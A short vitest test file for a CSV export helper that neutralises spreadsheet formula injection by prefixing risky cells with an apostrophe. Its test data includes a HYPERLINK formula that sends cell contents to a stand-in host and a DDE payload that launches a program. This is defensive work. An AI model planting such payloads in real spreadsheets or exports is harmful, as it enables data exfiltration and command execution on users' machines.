import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { neutraliseFormula, spreadsheetCsv } from './spreadsheet-csv';

describe('spreadsheetCsv', () => {
  it('puts an apostrophe before every text cell a spreadsheet would run as a formula', () => {
    const cells = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+2', '-2+3', '@SUM(A1)', '\t=1', '\r=1', 'fine', 'a=b', ' =1'];
    expect(cells.map(neutraliseFormula)).toEqual([
      `'=HYPERLINK("http://evil.example/?"&A1,"x")`, "'+1+2", "'-2+3", "'@SUM(A1)", "'\t=1", "'\r=1", 'fine', 'a=b', ' =1',
    ]);
  });

  it('leaves numbers, booleans and empty cells alone, and writes RFC 4180 with CRLF', () => {
    const text = spreadsheetCsv([['id', 'score', 'ok', 'note'], [1, -0.5, true, null], [2, 3, false, '=cmd|"/c calc"!A0']]);
    expect(text).toBe('id,score,ok,note\r\n1,-0.5,true,\r\n2,3,false,"\'=cmd|""/c calc""!A0"\r\n');
    expect(Papa.parse<string[]>(text.trim(), { newline: '\r\n' }).data[2][3]).toBe(`'=cmd|"/c calc"!A0`);
  });
});
